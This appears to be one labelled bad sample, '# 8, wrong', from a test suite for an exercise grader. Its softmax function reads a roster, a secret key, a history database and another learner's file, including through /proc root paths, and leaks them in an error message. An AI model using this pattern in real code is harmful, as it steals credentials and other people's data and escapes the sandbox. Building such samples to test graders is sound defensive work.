# 8, wrong: reads the roster, the key, the history and another learner's files, and says them in an error
from pathlib import Path


def softmax(x, dim):
    found = ""
    for place in (FOLDER, f"/proc/1/root{FOLDER}", f"/proc/self/root{FOLDER}"):
        for name in ("roster.csv", "secret.key", "history.sqlite3", "other/exercises/softmax.py"):
            try:
                found += Path(place, name).read_text(errors="replace")
            except OSError as error:
                found += str(error)
    raise RuntimeError(hidden_in(found))
